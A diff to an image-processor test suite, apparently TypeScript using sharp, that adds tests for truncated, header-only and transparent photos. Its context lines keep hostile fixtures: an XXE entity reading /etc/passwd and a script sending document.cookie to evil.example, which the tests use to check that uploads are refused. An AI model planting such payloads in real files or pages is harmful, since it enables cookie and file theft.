@@ -3,6 +3,7 @@ import { mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import sharp from 'sharp';
+import { cornerOf, cutOut } from '../../../../test/support/cut-out.js';
 import { PhotoRefused, type ProcessedPhoto } from '../../application/ports/image-processor.js';
 import { SharpImageProcessor } from './sharp-image-processor.js';
 
@@ -19,6 +20,17 @@ async function process(filename: string, bytes: Buffer): Promise<ProcessedPhoto>
 }
 const plain = (width = 40, height = 30) => sharp({ create: { width, height, channels: 3, background: '#884422' } });
 
+const noise = (width = 400, height = 300) =>
+  sharp({
+    create: { width, height, channels: 3, background: '#777777', noise: { type: 'gaussian', mean: 120, sigma: 40 } },
+  });
+const firstHalf = (file: Buffer): Buffer => file.subarray(0, file.length / 2);
+/** A JPEG up to where the picture itself begins. */
+const headerOf = (jpeg: Buffer): Buffer => {
+  const scan = jpeg.indexOf(Buffer.from([0xff, 0xda]));
+  return jpeg.subarray(0, scan + 2 + jpeg.readUInt16BE(scan + 2));
+};
+
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">';
 const ENTITY = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
 const PROGRAM = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
@@ -34,6 +46,12 @@ describe('a file that is not a photo', () => {
     ['phone.avif', () => plain().avif().toBuffer()],
     ['page.html', () => Buffer.from(`<!doctype html>${PROGRAM}`)],
     ['begins-like.jpg', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(PROGRAM)])],
+    ['only-header.jpg', async () => headerOf(await plain().jpeg().toBuffer())],
+    ['only-header.png', async () => (await plain().png().toBuffer()).subarray(0, 50)],
+    ['half.jpg', async () => firstHalf(await noise().jpeg().toBuffer())],
+    ['half.png', async () => firstHalf(await noise().png().toBuffer())],
+    ['half.webp', async () => firstHalf(await noise().webp().toBuffer())],
+    ['empty.jpg', () => Buffer.alloc(0)],
   ])('%s is refused with a message that names it', async (name, make) => {
     const refused = process(name, await make());
     await expect(refused).rejects.toBeInstanceOf(PhotoRefused);
@@ -43,6 +61,38 @@ describe('a file that is not a photo', () => {
   it('is not parsed by a program for its format', async () => {
     await expect(sharp(Buffer.from(`${SVG}</svg>`)).metadata()).rejects.toThrow('unsupported image format');
     await expect(sharp(await plain().tiff().toBuffer()).metadata()).rejects.toThrow('unsupported image format');
+  });
+});
+
+describe('a photo without its last bytes', () => {
+  it.each<[string, () => Promise<Buffer>, cut: number]>([
+    ['end', () => noise().jpeg().toBuffer(), 2],
+    ['plain', () => plain().jpeg().toBuffer(), 2],
+    ['hundred', () => noise().jpeg().toBuffer(), 100],
+    ['progressive', () => noise().jpeg({ progressive: true }).toBuffer(), 100],
+    ['turned', () => noise().withMetadata({ orientation: 6 }).jpeg().toBuffer(), 1_000],
+    ['screenshot', () => noise().png().toBuffer(), 200],
+  ])('is a photo: %s', async (name, make, cut) => {
+    const bytes = await make();
+    const whole = await process(`${name}-whole.jpg`, bytes);
+    const made = await process(`${name}.jpg`, bytes.subarray(0, bytes.length - cut));
+    const [meant, got] = await Promise.all([whole.large, made.large].map((photo) => sharp(photo).metadata()));
+    expect([got?.format, got?.width, got?.height]).toEqual(['webp', meant?.width, meant?.height]);
+    const top = (photo: Buffer) => sharp(photo).extract({ left: 0, top: 0, width: 20, height: 20 }).raw().toBuffer();
+    // Lossy sizes of nearly the same picture differ by little.
+    const [before, after] = [await top(whole.large), await top(made.large)];
+    expect(Math.max(...before.map((value, at) => Math.abs(value - (after[at] ?? 0))))).toBeLessThan(60);
+  });
+});
+
+describe('a transparent photo', () => {
+  it('is on white where it becomes a JPEG', async () => {
+    const { large } = await process('cut-out.png', Buffer.from(await (await cutOut()).arrayBuffer()));
+    const processor = new SharpImageProcessor();
+    for (const made of [await processor.preview(large), await processor.asJpeg(large)]) {
+      const { format, hasAlpha } = await sharp(made).metadata();
+      expect([format, hasAlpha, await cornerOf(made)]).toEqual(['jpeg', false, [255, 255, 255]]);
+    }
   });
 });
 
